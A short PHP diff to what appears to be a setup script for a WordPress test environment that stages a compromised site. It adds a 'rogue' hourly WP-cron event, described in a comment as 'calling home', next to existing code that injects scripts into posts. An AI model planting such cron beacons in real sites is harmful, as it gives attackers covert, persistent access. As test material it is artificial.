@@ -253,6 +253,11 @@ if ($step === 'install') {
             $spec['injected_script'], $pid));
         clean_post_cache($pid);
     }
+    if ($phase === 3 && $spec['rogue_cron'][0] !== '') {
+        // ...and a WP-cron event calling home every hour.
+        wp_schedule_event($spec['fixed_time'], 'hourly', $spec['rogue_cron'][0],
+            array($spec['rogue_cron'][1]));
+    }
 }
 
 pin_clock_and_secrets($spec);
